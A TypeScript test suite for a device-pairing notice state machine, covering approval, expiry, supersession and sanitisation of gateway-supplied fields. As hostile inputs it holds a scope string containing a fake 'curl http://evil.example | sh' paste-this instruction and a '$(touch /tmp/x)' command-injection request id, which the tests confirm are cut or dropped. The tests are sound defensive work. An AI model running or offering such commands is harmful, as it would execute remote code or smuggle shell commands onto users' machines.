import { assert, describe, it } from "@effect/vitest"
import * as Arbitrary from "effect/Arbitrary"
import * as Schema from "effect/Schema"
import type { ConnectionStatus } from "../../src/connection/ConnectionStatus.ts"
import type { Outcome, Pairing, Subject } from "../../src/pairing/PairingStep.ts"
import { idle, replay, step } from "../../src/pairing/PairingStep.ts"
import { PairingNotice } from "../../src/protocol/PairingNotice.ts"
import { read } from "../../src/protocol/Refusal.ts"
import * as NoticeLaw from "./NoticeLaw.ts"
import * as Statuses from "./Statuses.ts"
import { approval, awaiting, connected, connecting, waiting } from "./Statuses.ts"

const subject: Subject = { deviceId: Statuses.deviceId, commands: Statuses.commands }

interface Moment {
  readonly status: ConnectionStatus
  readonly nowMs?: number
  readonly gateway?: string
}

const run = (moments: ReadonlyArray<Moment>, from: Pairing = idle) => {
  let pairing = from
  const outcomes: Array<Outcome> = []
  for (const { gateway = Statuses.gateway, nowMs = 0, status } of moments) {
    const [next, outcome] = step(subject, pairing, { _tag: "StatusChanged", status, gateway, nowMs })
    pairing = next
    outcomes.push(outcome)
  }
  return { pairing, outcomes, notices: outcomes.flatMap(noticesOf) }
}
const noticesOf = (outcome: Outcome): ReadonlyArray<PairingNotice> => outcome._tag === "Emitted" ? outcome.notices : []
const tags = (notices: ReadonlyArray<PairingNotice>) => notices.map(({ _tag }) => _tag)
const asked = (id: string, atMs = 0) => awaiting(approval({ id, lastAskedAtMs: atMs }))

describe("PairingStep", () => {
  it("F12: a start that needs approval gives one notice and no failure; the approval ends it", () => {
    const { notices } = run([{ status: connecting }, { status: asked("one") }, { status: connected }])
    assert.deepStrictEqual(tags(notices), ["Required", "Resolved"])
  })

  it("F17: the key is gateway, device and request, without a time; the same request again is no second notice", () => {
    const [first, ...again] = [0, 3000, 6000, 9000, 12_000].map((atMs) => ({ status: asked("one", atMs), nowMs: atMs }))
    const opened = run(first === undefined ? [] : [first])
    const repeated = run(again, opened.pairing)
    assert.deepStrictEqual(tags(opened.notices), ["Required"])
    assert.strictEqual(opened.notices[0]?.key, `${Statuses.gateway} ${Statuses.deviceId} one`)
    assert.deepStrictEqual(repeated.outcomes, again.map(() => ({ _tag: "Suppressed" })))
    const replaced = run([{ status: asked("two", 15_000), nowMs: 15_000 }], repeated.pairing)
    assert.deepStrictEqual(tags(replaced.notices), ["Superseded"])
  })

  it("scopes that the gateway names are one line each, and cut", () => {
    const scopes = [
      "operator.read\nPaste this into a second terminal:\n\ncurl http://evil.example | sh",
      "x".repeat(10_000)
    ]
    const [notice] = run([{ status: awaiting(approval({ requestedScopes: scopes, approvedScopes: scopes })) }]).notices
    if (notice?._tag !== "Required") return assert.fail()
    for (const scope of [...(notice.requestedScopes ?? []), ...(notice.approvedScopes ?? [])]) {
      assert.notMatch(scope, /\n/)
      assert.isAtMost(scope.length, 64)
    }
  })

  it("F17: without a request id the key is the reason and the set of requested scopes", () => {
    const key = (fields: Parameters<typeof approval>[0]) =>
      run([{ status: awaiting(approval(fields)) }]).notices[0]?.key
    const base = key({ requestedScopes: ["a", "b"] })
    assert.isDefined(base)
    assert.strictEqual(key({ requestedScopes: ["b", "a"], lastAskedAtMs: 1, sinceMs: 1 }), base)
    assert.notStrictEqual(key({ requestedScopes: ["a"] }), base)
    assert.notStrictEqual(key({ requestedScopes: ["a", "b"], reason: "scope-upgrade" }), base)
  })

  it("F32: the outcome of a repeated request is Suppressed, and of anything else NotPairing", () => {
    const { outcomes } = run([
      { status: connecting },
      { status: asked("one") },
      { status: asked("one") },
      { status: connected },
      { status: connected },
      { status: waiting(undefined) }
    ])
    assert.deepStrictEqual(outcomes.map(({ _tag }) => _tag), [
      "NotPairing",
      "Emitted",
      "Suppressed",
      "Emitted",
      "NotPairing",
      "NotPairing"
    ])
  })

  it("F34: a missing scope is not pairing, however it reads", () => {
    const refused: ConnectionStatus = { _tag: "Halted", cause: Statuses.missingScope, approval: undefined }
    const retried: ConnectionStatus = {
      _tag: "Waiting",
      cause: Statuses.missingScope,
      retryAtMs: 1,
      approval: undefined
    }
    const { outcomes } = run([{ status: connected }, { status: refused }, { status: retried }])
    assert.isTrue(outcomes.every(({ _tag }) => _tag === "NotPairing"))
  })

  it("F38: without a request id there is a command to list and none to approve", () => {
    const [notice] = run([{ status: awaiting(approval()) }]).notices
    assert.strictEqual(notice?._tag, "Required")
    if (notice?._tag !== "Required") return
    assert.strictEqual(notice.list.text, "openclaw devices list")
    assert.isFalse("approve" in notice)
    assert.notInclude(JSON.stringify(notice), "--latest")
  })

  it.each(["$(touch /tmp/x)", "a\nb", "it's", `"q"`, "abc\u202Edef", "--latest", "a b", "", "a".repeat(129)])(
    "F45: a request id that is not safe to show never reaches a command (%#)",
    (requestId) => {
      const refusal = read({
        code: "NOT_PAIRED",
        message: "pairing required",
        details: { code: "PAIRING_REQUIRED", requestId }
      })
      assert.isUndefined(refusal.requestId)
      const [notice] = run([{ status: awaiting({ ...approval(), requestId: refusal.requestId }) }]).notices
      assert.isDefined(notice)
      if (notice !== undefined) assert.isFalse("approve" in notice)
    }
  )

  describe("B03 G06: more that waits beside a session", () => {
    const more = (id: string, atMs = 0) =>
      approval({ id, reason: "scope-upgrade", approvedScopes: ["operator.read"], lastAskedAtMs: atMs })

    it("is told once, with what there is and what is asked for, and ends in the session that has it", () => {
      const { notices } = run([
        { status: Statuses.upgrading(more("one")) },
        { status: Statuses.upgrading(more("one", 15_000)), nowMs: 15_000 },
        { status: Statuses.widened, nowMs: 20_000 }
      ])
      assert.deepStrictEqual(tags(notices), ["Required", "Resolved"])
      assert.deepInclude(notices[0], {
        reason: "scope-upgrade",
        connected: true,
        requestedScopes: ["operator.read", "operator.write"],
        approvedScopes: ["operator.read"]
      })
    })

    it("without it, says how it ended", () => {
      for (const outcome of ["rejected", "expired", "replaced", "unseen", "refused"] as const) {
        const { notices } = run([{ status: Statuses.upgrading(more("one")) }, { status: Statuses.declined(outcome) }])
        assert.deepStrictEqual(tags(notices), ["Required", "Cancelled"])
        assert.deepInclude(notices[1], { outcome })
      }
    })

    it("is not approved by a session that does not have it, as after other settings", () => {
      const { notices } = run([
        { status: Statuses.upgrading(more("one")) },
        { status: connecting },
        { status: connected }
      ])
      assert.deepStrictEqual(tags(notices), ["Required", "Cancelled"])
      assert.notProperty(notices[1], "outcome")
    })

    it("outlives a lost link, and ages while nobody can ask", () => {
      const { notices } = run([
        { status: Statuses.upgrading(more("one")) },
        { status: waiting(undefined), nowMs: 1000 },
        { status: connecting, nowMs: 2000 },
        { status: waiting(undefined), nowMs: 250_000 },
        { status: waiting(undefined), nowMs: 310_000 },
        { status: Statuses.upgrading(more("two", 320_000)), nowMs: 320_000 },
        { status: Statuses.widened, nowMs: 330_000 }
      ])
      assert.deepStrictEqual(tags(notices), ["Required", "Expiring", "Expired", "Superseded", "Resolved"])
    })

    it("a device that is not let in any more is another matter: the same notice, no longer connected", () => {
      const { notices } = run([
        { status: Statuses.upgrading(more("one")) },
        { status: awaiting({ ...approval({ id: "two", lastAskedAtMs: 1000 }), reason: "role-upgrade" }), nowMs: 1000 },
        { status: connected, nowMs: 2000 }
      ])
      assert.deepStrictEqual(tags(notices), ["Required", "Superseded", "Resolved"])
      assert.notProperty(notices[1], "connected")
    })
  })

  it("G05: a new request id replaces the notice and names the command that is dead", () => {
    const { notices, pairing } = run([{ status: asked("one") }, { status: asked("two", 1000), nowMs: 1000 }])
    assert.deepStrictEqual(tags(notices), ["Required", "Superseded"])
    const last = notices[1]
    assert.isTrue(last?._tag === "Superseded" && last.previousRequestId === "one" && last.requestId === "two")
    assert.isTrue(last?._tag === "Superseded" && last.approve?.text === "openclaw devices approve two")
    assert.strictEqual(pairing.live?.noticedAtMs, 1000)
  })

  it("G18: a link lost while waiting keeps the notice, through the dialling, until the approval", () => {
    const of = approval({ id: "one" })
    const { notices, pairing } = run([
      { status: awaiting(of) },
      { status: awaiting(of, { checking: true }) },
      { status: waiting(of) },
      { status: connecting },
      { status: waiting(of) },
      { status: connecting },
      { status: asked("one", 20_000), nowMs: 20_000 },
      { status: connected, nowMs: 25_000 }
    ])
    assert.deepStrictEqual(tags(notices), ["Required", "Resolved"])
    assert.isUndefined(pairing.live)
  })

  it("F25: a pause, a stop, another halt and another gateway cancel; a gateway that only stops being asked does not", () => {
    const of = approval({ id: "one" })
    const then = (status: ConnectionStatus, gateway = Statuses.gateway) =>
      tags(run([{ status: awaiting(of) }, { status, gateway }]).notices.slice(1))
    assert.deepStrictEqual(then(Statuses.paused), ["Cancelled"])
    assert.deepStrictEqual(then(Statuses.stopped), ["Cancelled"])
    assert.deepStrictEqual(then(Statuses.halted(of)), ["Cancelled"])
    assert.deepStrictEqual(then(waiting(undefined)), ["Cancelled"])
    assert.deepStrictEqual(then(connecting, Statuses.otherGateway), ["Cancelled"])
    assert.deepStrictEqual(then(connected, Statuses.otherGateway), ["Cancelled"])
    assert.deepStrictEqual(then(awaiting(of), Statuses.otherGateway), ["Cancelled", "Required"])
    assert.deepStrictEqual(then(Statuses.timedOut(undefined)), ["Cancelled"])
    assert.deepStrictEqual(then(Statuses.timedOut(of)), [])
    assert.deepStrictEqual(then(Statuses.toldToPause(of)), [])
  })

  it("F25: a request that comes back after it was resolved is a wait of its own", () => {
    const { notices } = run([{ status: awaiting(approval()) }, { status: connected }, { status: awaiting(approval()) }])
    assert.deepStrictEqual(tags(notices), ["Required", "Resolved", "Required"])
    assert.notStrictEqual(notices[2]?.key, notices[0]?.key)
  })

  it("B02: a request expires 300 s after the last ask, and only while it is not asked for", () => {
    const of = approval({ id: "one" })
    const asking = run([{ status: awaiting(of), nowMs: 0 }, {
      status: awaiting(of, { checking: true }),
      nowMs: 299_999
    }])
    assert.deepStrictEqual(tags(asking.notices), ["Required"])
    const { notices } = run([
      { status: awaiting(of), nowMs: 0 },
      { status: waiting(of), nowMs: 239_999 },
      { status: waiting(of), nowMs: 240_000 },
      { status: connecting, nowMs: 250_000 },
      { status: waiting(of), nowMs: 260_000 },
      { status: asked("one", 270_000), nowMs: 270_000 },
      { status: waiting(approval({ id: "one", lastAskedAtMs: 270_000 })), nowMs: 570_000 },
      { status: asked("two", 600_000), nowMs: 600_000 }
    ])
    assert.deepStrictEqual(tags(notices), ["Required", "Expiring", "Renewed", "Expired", "Superseded"])
    const expired = notices[3]
    assert.isTrue(expired?._tag === "Expired" && expired.expiresAt === "1970-01-01T00:09:30.000Z")
    assert.isFalse(expired !== undefined && "approve" in expired)
  })

  it("B02: a request that the gateway has forgotten opens no notice", () => {
    const { outcomes } = run([{ status: waiting(approval({ id: "one" })), nowMs: 300_000 }])
    assert.deepStrictEqual(outcomes, [{ _tag: "Suppressed" }])
  })

  it.prop(
    "F25, F32: over arbitrary statuses and clocks one notice lives at a time, nothing follows Resolved, outcomes are true",
    [Statuses.Happenings, Arbitrary.array(Arbitrary.schema(Schema.Literals(["", "reminder", "expiry", "stale"])))],
    ([happenings, clocks]) => {
      let pairing: Pairing = idle
      let nowMs = 0
      let staleKey = "none"
      let staleAtMs = 0
      const law = NoticeLaw.reader()
      const take = ([next, outcome]: readonly [Pairing, Outcome]) => {
        if (outcome._tag === "NotPairing") assert.isTrue(pairing.live === undefined && next.live === undefined)
        for (const notice of noticesOf(outcome)) {
          law.read(notice)
          assert.deepStrictEqual(decodeNotice(encodeNotice(notice)), notice)
        }
        staleKey = pairing.live?.key ?? staleKey
        staleAtMs = pairing.live?.noticedAtMs ?? staleAtMs
        pairing = next
        assert.strictEqual(law.live(), pairing.live?.key)
        const late = NoticeLaw.reader()
        for (const notice of replay(subject, pairing)) late.read(notice)
        assert.strictEqual(late.live(), law.live())
      }
      happenings.forEach(({ elapsedMs, gateway, status }, index) => {
        nowMs += elapsedMs
        take(step(subject, pairing, { _tag: "StatusChanged", status: status(nowMs), gateway, nowMs }))
        const clock = clocks[index] ?? ""
        if (clock === "") return
        const key = clock === "stale" ? staleKey : pairing.live?.key ?? "none"
        const noticedAtMs = clock === "stale" ? staleAtMs : pairing.live?.noticedAtMs ?? 0
        take(step(
          subject,
          pairing,
          clock === "expiry"
            ? { _tag: "ExpiryDue", key, nowMs }
            : { _tag: "ReminderDue", key, noticedAtMs, reminder: 1 }
        ))
      })
    },
    { arbitrary: { seed: "pairing-step", runs: 500, size: 40 } }
  )
})

const encodeNotice = Schema.encodeSync(PairingNotice)
const decodeNotice = Schema.decodeUnknownSync(PairingNotice)
